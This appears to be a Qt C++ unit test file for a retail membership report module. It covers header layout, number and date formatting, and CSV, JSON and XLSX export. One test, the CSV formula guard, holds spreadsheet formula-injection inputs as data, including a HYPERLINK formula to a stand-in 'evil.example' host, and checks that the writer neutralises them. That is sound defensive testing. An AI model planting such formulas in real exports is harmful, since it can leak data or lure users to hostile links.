#include "ColumnLayout.h"
#include "DisplayWidth.h"
#include "ReportFixture.h"
#include "ReportGrid.h"
#include "ReportWriters.h"
#include "ValueFormat.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QtTest>

Q_DECLARE_METATYPE(QList<HeaderCell>)

namespace {

// Entries "caption|second|visible" → a header vector.
VectorPtr header(const QStringList &entries)
{
    auto v = Vector::Create();
    int n = 0;
    for (const QString &e : entries) {
        const QStringList p = e.split(QLatin1Char('|'));
        v->Add(Fixture::Column(p.value(0).replace("¦", "|"), p.value(1), "1", QStringLiteral("F%1").arg(n++),
                               p.value(2) != QLatin1String("0")));
    }
    return v;
}

// The first sheet's XML of the report written as a workbook (unzip is one of the build's
// dependencies).
QString sheetXml(const ReportOutput &report)
{
    QTemporaryDir dir;
    const QString path = dir.filePath("report.xlsx");
    Present::WriteXlsx(report, path);
    QProcess unzip;
    unzip.start("unzip", {"-p", path, "xl/worksheets/sheet1.xml"});
    unzip.waitForFinished();
    return QString::fromUtf8(unzip.readAllStandardOutput());
}

QByteArray golden(const QString &name)
{
    QFile f(QFINDTESTDATA("data/" + name));
    if (!f.open(QIODevice::ReadOnly))
        qFatal("missing golden file %s", qPrintable(name));
    return f.readAll();
}

} // namespace

struct Covered { int rptId; QString begin; QString end; QString line; QString tab; };

struct FormatCase { QVariant value; QString colType; int style; QString text; };

struct PeriodLineCase { int rptId; QVariantMap keys; bool titleObject; QString period; };

struct FilterLinesCase { int rptId; QVariantMap filter; QStringList lines; };

class tst_Present : public QObject
{
    Q_OBJECT

private slots:
    void headerCells_data()
    {
        // "¦" stands for the "|" of a "+|" mark inside the compact entry notation.
        QTest::addColumn<QStringList>("entries");
        QTest::addColumn<bool>("visibleOnly");
        QTest::addColumn<QList<HeaderCell>>("cells");
        QTest::newRow("single_row_columns_only_one_header_row")
            << QStringList{"日期$||1", "卡号$||1"} << false
            << QList<HeaderCell>{{0, 0, 1, 1, "日期"}, {0, 1, 1, 1, "卡号"}};
        QTest::newRow("group_of_two_spans_first_row")
            << QStringList{"日期$||1", "期初+¦|储值卡金额|1", "|积分数额|1"} << false
            << QList<HeaderCell>{{0, 0, 2, 1, "日期"}, {0, 1, 1, 2, "期初"}, {1, 1, 1, 1, "储值卡金额"},
                                 {1, 2, 1, 1, "积分数额"}};
        QTest::newRow("group_of_three_then_single")
            << QStringList{"本期+¦+¦|充值|1", "|消费|1", "|调整|1", "收银员$||1"} << false
            << QList<HeaderCell>{{0, 0, 1, 3, "本期"}, {0, 3, 2, 1, "收银员"}, {1, 0, 1, 1, "充值"},
                                 {1, 1, 1, 1, "消费"}, {1, 2, 1, 1, "调整"}};
        QTest::newRow("hidden_member_narrows_group")
            << QStringList{"期初+¦|金额|1", "|积分|0", "备注$||1"} << true
            << QList<HeaderCell>{{0, 0, 1, 1, "期初"}, {0, 1, 2, 1, "备注"}, {1, 0, 1, 1, "金额"}};
        QTest::newRow("hidden_group_leaves_one_row")
            << QStringList{"日期$||1", "期初+¦|金额|0", "|积分|0"} << true
            << QList<HeaderCell>{{0, 0, 1, 1, "日期"}};
        QTest::newRow("empty_caption_after_group_ends_it")
            << QStringList{"期初+¦|金额|1", "|积分|1", "|多余|1"} << false
            << QList<HeaderCell>{{0, 0, 1, 2, "期初"}, {0, 2, 1, 1, ""}, {1, 0, 1, 1, "金额"},
                                 {1, 1, 1, 1, "积分"}, {1, 2, 1, 1, "多余"}};
    }

    void headerCells()
    {
        QFETCH(QStringList, entries);
        QFETCH(bool, visibleOnly);
        QFETCH(QList<HeaderCell>, cells);
        ColumnLayout layout = ColumnLayout::FromHeader(header(entries));
        if (visibleOnly)
            layout = layout.VisibleOnly();
        QCOMPARE(layout.Cells(), cells);
    }

    void formatValue_data()
    {
        QTest::addColumn<FormatCase>("row");
        const int grid = int(FormatStyle::Grid), plain = int(FormatStyle::Plain);
        QTest::newRow("date_from_datetime_drops_time")
            << FormatCase{QVariant(QDateTime(QDate(2024, 5, 3), QTime(9, 30))), "0", grid, "2024-05-03"};
        QTest::newRow("date_from_text") << FormatCase{QVariant("2024-05-03 09:30:00"), "0", grid, "2024-05-03"};
        QTest::newRow("date_column_keeps_summary_caption") << FormatCase{QVariant("合计"), "0", grid, "合计"};
        QTest::newRow("amount_grid_thousands") << FormatCase{QVariant(1234567.8), "6", grid, "1,234,567.80"};
        QTest::newRow("amount_plain_no_separators") << FormatCase{QVariant(1234567.8), "6", plain, "1234567.80"};
        QTest::newRow("amount_negative_zero") << FormatCase{QVariant(-0.001), "6", grid, "0.00"};
        QTest::newRow("amount_from_numeric_text") << FormatCase{QVariant("12.5"), "6", grid, "12.50"};
        QTest::newRow("quantity_trims_zeros") << FormatCase{QVariant(1.5), "2", grid, "1.5"};
        QTest::newRow("quantity_three_decimals") << FormatCase{QVariant(1.12549), "2", grid, "1.125"};
        QTest::newRow("quantity_no_thousands") << FormatCase{QVariant(12345.0), "2", grid, "12345"};
        QTest::newRow("unit_price_two_decimals") << FormatCase{QVariant(3.456), "4", grid, "3.46"};
        QTest::newRow("empty_value") << FormatCase{QVariant(), "6", grid, ""};
        QTest::newRow("text_whole_double") << FormatCase{QVariant(3.0), "1", grid, "3"};
        QTest::newRow("text_datetime_midnight") << FormatCase{QVariant(QDateTime(QDate(2024, 1, 2), QTime(0, 0))), "1",
                                                grid, "2024-01-02"};
        QTest::newRow("text_datetime") << FormatCase{QVariant(QDateTime(QDate(2024, 1, 2), QTime(8, 5, 9))), "1", grid,
                                       "2024-01-02 08:05:09"};
        QTest::newRow("unknown_type_as_text") << FormatCase{QVariant("A,B"), "9", grid, "A,B"};
        QTest::newRow("amount_half_cent") << FormatCase{QVariant(-1234567.805), "6", grid, "-1,234,567.81"};
        QTest::newRow("amount_integer") << FormatCase{QVariant(1234), "6", grid, "1,234.00"};
        QTest::newRow("amount_huge") << FormatCase{QVariant(3e17), "6", grid, "300000000000000000.00"};
        QTest::newRow("quantity_whole_negative") << FormatCase{QVariant(-3.0), "2", grid, "-3"};
        QTest::newRow("text_integer") << FormatCase{QVariant(-42), "1", grid, "-42"};
        QTest::newRow("text_fraction") << FormatCase{QVariant(2.5), "1", grid, "2.5"};
        QTest::newRow("text") << FormatCase{QVariant("人民路店 A01"), "1", grid, "人民路店 A01"};
        QTest::newRow("empty_text") << FormatCase{QVariant(""), "1", grid, ""};
        QTest::newRow("boolean") << FormatCase{QVariant(true), "1", grid, "是"};
    }

    // The value alone, then stored in a record set field of its own type: the grid's
    // allocation-free cell text agrees with the general formatting in both styles.
    void formatValue()
    {
        QFETCH(FormatCase, row);
        const auto &[value, colType, style, text] = row;
        const ColumnKind kind = ColumnKindFromType(colType);
        QCOMPARE(Present::FormatValue(value, kind, FormatStyle(style)), text);

        using T = Recordset::FieldType;
        const QHash<int, T> types{{QMetaType::Int, T::Integer}, {QMetaType::QString, T::Text},
                                  {QMetaType::QDateTime, T::DateTime}, {QMetaType::Bool, T::Boolean}};
        auto rs = Recordset::Create();
        rs->AddField("F", types.value(value.typeId(), T::Double));
        rs->Open();
        rs->SetValue(rs->AddRow(), 0, value);
        ReportColumn column;
        column.field = "F";
        column.kind = kind;
        const ReportGrid grid(ColumnLayout({column}), rs);
        for (const FormatStyle s : {FormatStyle::Grid, FormatStyle::Plain}) {
            CellBuffer buffer;
            QCOMPARE(grid.TextView(0, 0, s, buffer).toString(), Present::FormatValue(rs->Value(0, 0), kind, s));
        }
    }

    void displayWidth_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<int>("width");
        QTest::newRow("ascii") << "V0001" << 5;
        QTest::newRow("chinese_two_each") << "储值卡金额" << 10;
        QTest::newRow("fullwidth_punctuation") << "（全部）" << 8;
        QTest::newRow("combining_mark_is_zero") << QString("e\u0301") << 2 - 1;
        QTest::newRow("supplementary_cjk") << QString::fromUcs4(U"\U00020000") << 2;
    }

    void displayWidth()
    {
        QFETCH(QString, text);
        QFETCH(int, width);
        QCOMPARE(Present::DisplayWidth(text), width);
    }

    // Reports without a title object take their period from the filter; both hosts show and
    // export it.
    void periodLine_data()
    {
        QTest::addColumn<PeriodLineCase>("row");
        QTest::newRow("ledger_month") << PeriodLineCase{10901, {{"Month", 5}}, false, "期间：2024年5月"};
        QTest::newRow("ledger_month_as_text") << PeriodLineCase{10901, {{"Month", "12"}}, false, "期间：2024年12月"};
        QTest::newRow("ledger_without_month") << PeriodLineCase{10901, {}, false, ""};
        QTest::newRow("rollforward_month") << PeriodLineCase{10908, {{"Month", 11}}, false, "期间：2024年11月"};
        QTest::newRow("ageing_cutoff") << PeriodLineCase{10909, {{"EDate", "2024-06-30 23:59:59"}}, false,
                                                         "截至：2024-06-30 23:59:59"};
        QTest::newRow("settlement_dates") << PeriodLineCase{10910, {{"BDate", "2024-06-01 00:00:00"}, {"EDate", "2024-06-30 23:59:59"}},
                                                            false, "日期：2024-06-01 00:00:00 至 2024-06-30 23:59:59"};
        QTest::newRow("custody_quarter") << PeriodLineCase{10911, {{"Quarter", 3}}, false, "期间：2024年第3季度"};
        QTest::newRow("custody_without_quarter") << PeriodLineCase{10911, {}, false, ""};
        QTest::newRow("other_report_uses_its_dates") << PeriodLineCase{10903, {{"Month", 5}}, true,
                                                     "日期：2024-05-01 00:00:00 至 2024-05-31 23:59:59"};
    }

    void periodLine()
    {
        QFETCH(PeriodLineCase, row);
        const auto &[rptId, keys, titleObject, period] = row;
        ReportOutput r = Fixture::SmallLedger();
        if (!titleObject)
            r.result->Remove("RptTitleObject");
        r.filter->SetValue("RptID", rptId);
        for (auto it = keys.begin(); it != keys.end(); ++it)
            r.filter->SetValue(it.key(), it.value());
        const int titleLines = r.title->Count();
        QCOMPARE(r.PeriodLine(), period);
        QCOMPARE(r.TitleBlock().contains(period), !period.isEmpty());
        QCOMPARE(r.title->Count(), titleLines);   // the report's Title is left as it is
        if (!period.isEmpty())
            QVERIFY(Present::WriteTable(r).contains(period));
    }

    // Period line, tab and file name say the same inclusive range, as each report counts it.
    void periodCovered_data()
    {
        QTest::addColumn<Covered>("row");
        QTest::newRow("sales_count_whole_days") << Covered{10902, "2024-01-01 08:30:00", "2024-01-31 00:00:00",
                                                "日期：2024-01-01 00:00:00 至 2024-01-31 23:59:59", "2024-01"};
        QTest::newRow("lines_as_given") << Covered{10903, "2024-01-01 00:00:00", "2024-01-31 00:00:00",
                                        "日期：2024-01-01 00:00:00 至 2024-01-31 00:00:00",
                                        "2024-01-01 00.00~2024-01-31 00.00"};
        QTest::newRow("whole_days") << Covered{10904, "2024-01-03", "2024-01-09 23:59:59",
                                    "日期：2024-01-03 00:00:00 至 2024-01-09 23:59:59", "2024-01-03~2024-01-09"};
        QTest::newRow("open_end") << Covered{10905, "2024-01-03 00:00:00", "", "日期：2024-01-03 00:00:00 起", ""};
        QTest::newRow("all") << Covered{10903, "", "", "日期：全部", ""};
    }
    void periodCovered()
    {
        QFETCH(Covered, row);
        const auto &[rptId, begin, end, line, tab] = row;
        QCOMPARE(Present::PeriodText(rptId, QString("BDate,%1|EDate,%2").arg(begin, end)), line);
        const auto period = Present::Covered(rptId, begin, end);
        QVERIFY(period);
        QCOMPARE(Present::PeriodShort(*period), tab);
    }

    // What the user filtered, under the title of every output.
    void filterLines_data()
    {
        QTest::addColumn<FilterLinesCase>("row");
        QTest::newRow("branch_and_grouping")
            << FilterLinesCase{10902, {{"BBranchNum", "002"}, {"EBranchNum", "002"}, {"BVipNum", ""}, {"EVipNum", ""},
                                       {"GroupBy", 1}, {"SumOnly", 0}, {"BDate", "2024-01-01 00:00:00"}},
                               {"消费分店 002", "汇总依据 消费分店"}};
        QTest::newRow("drill_down_card_and_open_range")
            << FilterLinesCase{10903, {{"BVipNum", "80000003"}, {"EVipNum", "80000003"}, {"BItemNum", "100001"}, {"Cashier", "E01"}},
                               {"会员卡号 80000003", "商品 100001 起", "收银员 E01"}};
        QTest::newRow("switches_on_only")
            << FilterLinesCase{10901, {{"Year", 2024}, {"Month", 5}, {"ShowSumOnly", 1}, {"ShowVipDo", 0}, {"VipName", "张"}},
                               {"会员姓名 张", "只显示小计与合计行 仅显示汇总行"}};
    }
    void filterLines()
    {
        QFETCH(FilterLinesCase, row);
        const auto &[rptId, filter, lines] = row;
        ReportOutput r = Fixture::SmallLedger();
        r.filter = Dictionary::Create();
        r.filter->SetValue("RptID", rptId);
        for (auto it = filter.cbegin(); it != filter.cend(); ++it)
            r.filter->SetValue(it.key(), it.value());
        QCOMPARE(r.FilterLines(), lines);
        const QString table = Present::WriteTable(r);
        for (const QString &l : lines)
            QVERIFY2(table.contains(l), qPrintable(l));
    }

    // Text a spreadsheet would run as a formula is written with a leading apostrophe; numbers and
    // other text are not touched.
    void csvGuardsFormulas_data()
    {
        QTest::addColumn<QString>("value");
        QTest::addColumn<QByteArray>("written");
        QTest::newRow("hyperlink") << QStringLiteral("=HYPERLINK(\"http://evil.example/?x\",\"点我\")")
                                   << QByteArray("\"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"点我\"\")\"");
        QTest::newRow("plus") << QStringLiteral("+SUM(A1:A9)") << QByteArray("'+SUM(A1:A9)");
        QTest::newRow("minus formula") << QStringLiteral("-2+3") << QByteArray("'-2+3");
        QTest::newRow("at") << QStringLiteral("@cmd") << QByteArray("'@cmd");
        QTest::newRow("tab") << QStringLiteral("\tx") << QByteArray("'\tx");
        QTest::newRow("carriage return") << QStringLiteral("\rx") << QByteArray("\"'\rx\"");
        QTest::newRow("negative number") << QStringLiteral("-12.50") << QByteArray("-12.50");
        QTest::newRow("signed number") << QStringLiteral("+3") << QByteArray("+3");
        QTest::newRow("exponent") << QStringLiteral("-1e5") << QByteArray("-1e5");
        QTest::newRow("sign alone") << QStringLiteral("-") << QByteArray("'-");
        QTest::newRow("two points") << QStringLiteral("-1.2.3") << QByteArray("'-1.2.3");
        QTest::newRow("inside") << QStringLiteral("a=b") << QByteArray("a=b");
    }

    void csvGuardsFormulas()
    {
        QFETCH(QString, value);
        QFETCH(QByteArray, written);
        ReportOutput r = Fixture::SmallLedger();
        r.rs->SetText(0, 7, value);
        const QByteArray csv = Present::WriteCsv(r);
        QVERIFY2(csv.contains(',' + written + "\r\n"), csv.constData());
    }

    // Columns blank in every row are left out; a narrow terminal gets parts that fit, each
    // led by the first column, and every value still shows once per part it belongs to.
    void tableLeavesOutBlankColumnsAndFitsTheWidth_data()
    {
        QTest::addColumn<int>("width");
        QTest::addColumn<int>("parts");
        QTest::newRow("unlimited") << 0 << 1;
        QTest::newRow("wide enough") << 200 << 1;
        QTest::newRow("narrow") << 50 << 2;
        QTest::newRow("very narrow") << 30 << 5;
    }

    void tableLeavesOutBlankColumnsAndFitsTheWidth()
    {
        QFETCH(int, width);
        QFETCH(int, parts);
        ReportOutput r = Fixture::SmallLedger();
        r.rs->SetValue(0, 7, QVariant());   // 备注 blank in every row now
        const QStringList lines = Present::WriteTable(r, width).split(u'\n');
        QVERIFY(!lines.join(u'\n').contains("备注"));
        QCOMPARE(lines.filter(QRegularExpression("^（第 \\d/\\d 部分")).size(), parts == 1 ? 0 : parts);
        QCOMPARE(lines.filter(QRegularExpression("^\\|\\s+日期\\s+\\|")).size(), parts);
        for (const QString &line : lines)
            if (width > 0 && line.startsWith(u'|'))
                QVERIFY2(Present::DisplayWidth(line) <= width, qPrintable(line));
        for (const char *value : {"1234.50", "张三", "12.00", "3.46", "13800000000"})
            QCOMPARE(lines.join(u'\n').contains(QString::fromUtf8(value)), QByteArray(value) != "13800000000");
    }

    // The ledger as the golden files hold it; a failed report's table shows its error, no rows.
    void csvAndTableMatchGolden()
    {
        QCOMPARE(Present::WriteCsv(Fixture::SmallLedger()), golden("small-ledger.csv"));
        QCOMPARE(Present::WriteTable(Fixture::SmallLedger()).toUtf8(), golden("small-ledger.txt"));
        ReportOutput r = Fixture::SmallLedger();
        r.result->SetValue("OK", false);
        r.result->SetValue("Error", "数据库连接失败");
        const QString text = Present::WriteTable(r);
        QVERIFY(text.contains("错误：数据库连接失败") && !text.contains("V0001"));
    }

    // Every part with its types; dictionaries keep the order they were stored in; text escaped.
    void jsonCarriesEveryPartWithTypes()
    {
        ReportOutput r = Fixture::SmallLedger();
        r.filter->SetValue("zz", QString("say \"hi\"\\\n\t\x01末"));
        r.filter->SetValue("aa", 1);
        const QByteArray json = Present::WriteJson(r);
        QJsonParseError error;
        const QJsonObject root = QJsonDocument::fromJson(json, &error).object();
        QCOMPARE(error.error, QJsonParseError::NoError);
        QCOMPARE(root.keys(), QStringList({"Fields", "Filter", "Header", "Property", "Result", "Rows", "Title"}));
        QCOMPARE(root["Result"]["RptTitleObject"]["ShowDateDiff"].toString(),
                 "BDate,2024-05-01 00:00:00|EDate,2024-05-31 23:59:59");
        QVERIFY(root["Property"]["FrozenColumn"].isDouble());
        QCOMPARE(root["Header"][8]["FVisible"].toInt(), 0);   // hidden columns are kept
        QCOMPARE(root["Fields"].toArray().last().toString(), "FRowKind");
        const QJsonArray rows = root["Rows"].toArray();
        QCOMPARE(rows[0][0].toString(), "2024-05-01");
        QCOMPARE(rows[1][0].toString(), "2024-05-03 09:30:00");
        QVERIFY(rows[0][3].isDouble());
        QCOMPARE(rows[0][3].toDouble(), 1234.5);
        QVERIFY(rows[1][7].isNull());
        QCOMPARE(rows[0][8].toString(), "13800000000");
        QCOMPARE(rows[3][9].toInt(), 2);
        QCOMPARE(root["Filter"]["zz"].toString(), QString("say \"hi\"\\\n\t\x01末"));
        QVERIFY(json.indexOf("\"zz\"") < json.indexOf("\"aa\""));
        const QByteArray entry = json.mid(json.indexOf("\"Header\""));
        QVERIFY(entry.indexOf("\"FColCaption\"") < entry.indexOf("\"FHeadSecond\""));
        QVERIFY(entry.indexOf("\"FVisible\"") < entry.indexOf("\"FWidth\""));
        // Rows first is the same object, with and without rows, the rows ahead of what a run
        // completes after its query.
        for (const bool rows : {true, false}) {
            if (!rows) {
                r.rs = Recordset::Create();
                r.rs->AddField("FDate", Recordset::FieldType::DateTime);
            }
            const QByteArray first = Present::WriteJson(r, Present::JsonLayout::RowsFirst);
            const QJsonDocument doc = QJsonDocument::fromJson(first, &error);
            QCOMPARE(error.error, QJsonParseError::NoError);
            QCOMPARE(doc, QJsonDocument::fromJson(Present::WriteJson(r)));
            QVERIFY(first.indexOf("\n  \"Rows\": [") < first.indexOf("\n  \"Result\": "));
            QVERIFY(first.indexOf("\n  \"Fields\": ") < first.indexOf("\n  \"Rows\": ["));
        }
    }


    // The page's head and tail: grouping as the grid shows it (quantities without), the ledger
    // chart titled by its month; the rows counted as the table counts them (the detail rows, or
    // the subtotals when only summary rows are shown); a lone total of nothing is no data; hidden
    // columns are not sent.
    void pageLinesDescribeTheGrid_data()
    {
        QTest::addColumn<int>("from");
        QTest::addColumn<int>("rows");
        QTest::newRow("all") << 0 << 2;
        QTest::newRow("summary_only") << 2 << 1;
        QTest::newRow("total_alone") << 3 << 0;
    }
    void pageLinesDescribeTheGrid()
    {
        QFETCH(int, from);
        QFETCH(int, rows);
        ReportOutput r = Fixture::SmallLedger();
        r.filter->SetValue("Month", 5);
        QByteArray bytes;
        Present::ByteSink sink([&bytes](const char *data, size_t size) { bytes.append(data, qsizetype(size)); });
        const auto text = Present::PageRows(sink);
        text->Head(r);
        text->Rows(from, 4);
        text->Tail(r);
        const QList<QByteArray> lines = bytes.trimmed().split('\n');
        const QJsonObject head = QJsonDocument::fromJson(lines.first()).object()["head"].toObject();
        const QJsonObject tail = QJsonDocument::fromJson(lines.last()).object()["tail"].toObject();
        QCOMPARE(head["columns"][3]["grouping"].toBool(), true);
        QCOMPARE(head["columns"][5]["grouping"].toBool(), false);
        QCOMPARE(head["chart"]["title"].toString(), "会员卡 %1 2024年5月储值余额与积分余额");
        QCOMPARE(std::pair(tail["rows"].toInt(), tail["empty"].toBool()), std::pair(rows, rows == 0));
        QVERIFY(!bytes.contains("13800000000"));   // the hidden phone column goes empty
    }

    void xlsxHoldsNumbersAndMergedHeader()
    {
        ReportOutput r = Fixture::SmallLedger();
        r.rs->SetText(0, 7, u"首充, \"VIP\" <&>\x01");
        r.rs->SetText(1, 7, u"1<2");
        r.rs->SetDouble(0, 4, 65.07);    // not "65.06999999999999"
        r.rs->SetDouble(1, 4, 691.07);   // not "691.0700000000001"
        const QString sheet = sheetXml(r);
        // Title block on top (name, two lines, the period), header at rows 6 and 7 without the hidden
        // column, markup escaped and control characters left out, title block, header and the first two
        // columns frozen.
        for (const char *text : {"储值积分变动表", "日期：2024-05-01 00:00:00 至 2024-05-31 23:59:59", "<mergeCell ref=\"D6:E6\"/>",
                                 "<mergeCell ref=\"A6:A7\"/>", "<t>首充, &quot;VIP&quot; &lt;&amp;&gt;</t>", "<t>1&lt;2</t>",
                                 "<pane xSplit=\"2\" ySplit=\"7\" topLeftCell=\"C8\""})
            QVERIFY2(sheet.contains(QString::fromUtf8(text)), text);
        QVERIFY(!sheet.contains("会员手机号"));
        // Number cells hold the shortest text that reads back; the card number is text; dates are
        // serial numbers (2024-05-03 09:30 as 45415, the time dropped).
        for (const char *cell : {"D8\"[^>]*><v>1234.5</v>", "B8\"[^>]*t=\"inlineStr\"><is><t>V0001</t>", "E8\"[^>]*><v>65.07</v>",
                                 "E9\"[^>]*><v>691.07</v>", "E10\"[^>]*><v>10</v>", "A9\"[^>]*><v>45415</v>"})
            QVERIFY2(QRegularExpression("<c r=\"" + QLatin1String(cell)).match(sheet).hasMatch(), qPrintable(cell + sheet.left(3000)));
    }

    // The workbook prints: landscape, one page wide, title block and header on every page,
    // an autofilter on the header, the print area; as a spreadsheet program reads it back.
    void xlsxPrintsOnPagesOneWide()
    {
        // Debian's python3, which python3-openpyxl belongs to.
        const QString python = QStandardPaths::findExecutable("python3", {"/usr/bin"});
        if (python.isEmpty())
            QSKIP("python3 is not installed");
        const ReportOutput r = Fixture::SmallLedger();
        const ReportGrid grid(r, true);
        const QString last = QStringLiteral("%1%2").arg(QChar(u'A' + grid.ColumnCount() - 1)).arg(7 + grid.RowCount());
        QTemporaryDir dir;
        const QString path = dir.filePath("report.xlsx");
        Present::WriteXlsx(r, path);
        QProcess py;
        py.start(python, {"-c", "import openpyxl,sys; ws=openpyxl.load_workbook(sys.argv[1]).active; p=ws.page_setup;"
                                   "print(p.orientation, p.fitToWidth, p.fitToHeight, ws.sheet_properties.pageSetUpPr.fitToPage,"
                                   " ws.print_title_rows, ws.print_area, ws.auto_filter.ref)", path});
        QVERIFY(py.waitForFinished(60000));
        QCOMPARE(QString::fromUtf8(py.readAllStandardOutput()).trimmed(),
                 QStringLiteral("landscape 1 0 True $1:$7 ['$A$1:$%1'] A7:%2").arg(QString(last).insert(1, u'$'), last));

        // Converted to PDF headless: one landscape page.
        const QString office = QStandardPaths::findExecutable("soffice");
        if (office.isEmpty() || QStandardPaths::findExecutable("pdfinfo").isEmpty())
            QSKIP("LibreOffice or pdfinfo is not installed");
        QProcess convert;
        convert.start(office, {"-env:UserInstallation=file://" + dir.filePath("profile"), "--headless", "--convert-to", "pdf",
                               "--outdir", dir.path(), path});
        QVERIFY(convert.waitForFinished(300000));
        QProcess info;
        info.start("pdfinfo", {dir.filePath("report.pdf")});
        QVERIFY(info.waitForFinished(60000));
        const QString text = QString::fromUtf8(info.readAllStandardOutput());
        QVERIFY2(QRegularExpression("Pages:\\s+1\\n").match(text).hasMatch(), qPrintable(text));
        const QRegularExpressionMatch size = QRegularExpression("Page size:\\s+([\\d.]+) x ([\\d.]+)").match(text);
        QVERIFY2(size.hasMatch() && size.captured(1).toDouble() > size.captured(2).toDouble(), qPrintable(text));
    }
};

QTEST_APPLESS_MAIN(tst_Present)
#include "tst_present.moc"
